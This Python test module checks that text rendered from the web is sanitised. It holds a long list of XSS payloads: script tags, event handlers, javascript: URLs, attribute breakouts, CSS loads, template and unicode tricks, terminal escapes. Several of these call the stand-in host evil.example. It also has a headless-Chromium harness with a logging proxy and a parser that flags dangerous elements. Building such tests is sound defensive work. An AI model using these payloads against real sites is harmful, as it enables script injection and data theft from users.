"""Injections for every place where text from the web is rendered, a page in Chromium that tells which of them worked,
and a proxy on loopback that hears every request the page makes.

Each payload that comes to run marks the root element; each that loads something asks `evil.example` for it.
"""

# ruff: noqa: E501 - a payload is one line

import re
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
RUN = "document.documentElement.setAttribute('data-pwned','yes')"
EVIL = "http://evil.example"

INJECTIONS = [
    # script and elements with handlers
    f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script src={EVIL}/s.js></script>",
    f"<img src=x onerror={RUN}>", f"<img src={EVIL}/i.png>", f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><image href={EVIL}/svg.png></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x'/></svg>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>", f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<body onload={RUN}>", f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<video src={EVIL}/v.mp4 autoplay>",
    f"<audio src=x onerror={RUN}>", f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>", f"<iframe src={EVIL}/frame></iframe>",
    f"<object data={EVIL}/o></object>", f"<embed src={EVIL}/e>", f"<link rel=stylesheet href={EVIL}/l.css>",
    f"<link rel=prefetch href={EVIL}/prefetch>", f"<base href={EVIL}/>", f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    f"<form action={EVIL}/f><button autofocus>x</button></form>", f"<style>@import url({EVIL}/css);*{{background:url({EVIL}/bg)}}</style>",
    f"<template><script>{RUN}</script></template>", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<textarea><img title=\"</textarea><img src=x onerror={RUN}>\">", f"<title></title><script>{RUN}</script>",
    # out of attributes, comments, CDATA, other elements
    f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>", f"\" onmouseover=\"{RUN}\" x=\"", f"' autofocus onfocus='{RUN}",
    f"` onerror=`{RUN}", f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</textarea></pre></title><svg/onload={RUN}>", f"<!--<img src=\"--><img src=x onerror={RUN}//\">", f"<a href=\"x\"\n onclick=\"{RUN}\">",
    # addresses
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}", f"javascript&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", f"<a href=javascript:{RUN}>x</a>", "//evil.example/x", f"{EVIL}/plain",
    f"[x](javascript:{RUN})", f"![x]({EVIL}/md.png)", f"<{EVIL}/auto>", f"[x]: {EVIL}/ref\n![x][x]",
    # styles
    f"x;background:url({EVIL}/style)", f"}}*{{background:url({EVIL}/rule)}}", f"expression({RUN})", f"red;}}</style><script>{RUN}</script>",
    # templates and JSON in scripts
    "{{constructor.constructor('" + RUN + "')()}}", "${" + RUN + "}", f"\";{RUN};//", f"';{RUN};//", f"\\\";{RUN};//", f"\u2028{RUN}\u2029",
    f"{{\"__proto__\": {{\"x\": \"<img src=x onerror={RUN}>\"}}}}", "<!--<script>", f"</script><!--<script>{RUN}", "%{customdata}", "<b>%{x}</b>",
    # unicode tricks
    f"＜script＞{RUN}＜/script＞", f"<scr\u0000ipt>{RUN}</script>", f"<\u200bscript>{RUN}</script>", f"\u202e<script>{RUN}</script>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"\ufeff<script>{RUN}</script>", f"<img src=x onerror\u00a0={RUN}>", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    # plotly and rich know some markup of their own
    f"<a href=\"{EVIL}/plotly\">x</a>", f"<a href=\"javascript:{RUN}\">x</a>", f"<span style=\"background:url({EVIL}/span)\">x</span>", f"<sub><img src={EVIL}/sub></sub>",
    "[link=http://evil.example]x[/link]", "[red]x[/red]", "\x1b[2J\x1b[31m", "\x9b31m", "$\\href{http://evil.example}{x}$",
]  # fmt: skip
"""What a page, an id, a name or an error can hold."""
SWALLOWING = ("textarea", "<!--", "refresh", "title", "noscript", "template", "<style", "<base", "<form")
"""As markup, these would end the page or hide the payloads behind them."""
AS_MARKUP = "".join(
    f"<div>{payload}</div>" for payload in INJECTIONS if not any(part in payload for part in SWALLOWING)
)


class _Heard(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.heard.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_CONNECT = do_HEAD = do_OPTIONS = do_GET

    def log_message(self, *_: object) -> None:
        """Nothing."""


@contextmanager
def proxy() -> Iterator[tuple[int, list[str]]]:
    """A proxy's port, and the addresses that it was asked for; it fetches nothing."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Heard)
    server.heard = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], server.heard  # type: ignore[attr-defined]
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


class Shown(HTMLParser):
    """The document as Chromium has it after its scripts ran, and the requests that it made."""

    def __init__(self, document: str, heard: list[str]) -> None:
        super().__init__()
        self.document = document
        self.heard = [path for path in heard if "evil.example" in path]
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(document)
        self.close()

    def handle_starttag(self, name: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append((name, dict(attributes)))

    @property
    def ran(self) -> bool:
        """Whether a payload came to run."""
        return any(name == "html" and "data-pwned" in attributes for name, attributes in self.tags)

    def dangers(self) -> list[str]:
        """Elements and attributes that can run or load something, apart from scripts (which a policy names)."""
        found = []
        for name, attributes in self.tags:
            if name in (
                "iframe",
                "object",
                "embed",
                "base",
                "form",
                "link",
                "video",
                "audio",
                "foreignobject",
                "frame",
            ):
                found.append(f"<{name}>")
            for key, value in attributes.items():
                value = value or ""
                if key.startswith("on") or key == "srcdoc":
                    found.append(f"<{name} {key}>")
                if key in ("href", "src", "xlink:href", "action", "formaction", "poster") and not re.match(
                    r"#|data:image/png|blob:", value
                ):
                    found.append(f"<{name} {key}={value[:60]!r}>")
                if key == "style" and re.search(r"url\((?!['\"]?#)|expression|@import", value):
                    found.append(f"<{name} style={value[:60]!r}>")
                if key == "http-equiv" and value.lower() == "refresh":
                    found.append("<meta refresh>")
        return found


def opened(path: Path, folder: Path) -> Shown:
    """The page after its scripts ran, every figure drawn, with all that it asked for."""
    with proxy() as (port, heard):
        command = [
            str(CHROMIUM), "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
            "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-dev-shm-usage",
            f"--user-data-dir={folder}", "--window-size=1240,9000", "--virtual-time-budget=6000",
            f"--proxy-server=http://127.0.0.1:{port}", "--proxy-bypass-list=<-loopback>", "--dump-dom", path.as_uri(),
        ]  # fmt: skip
        done = subprocess.run(command, capture_output=True, timeout=240, check=True)
        return Shown(done.stdout.decode("utf-8"), list(heard))
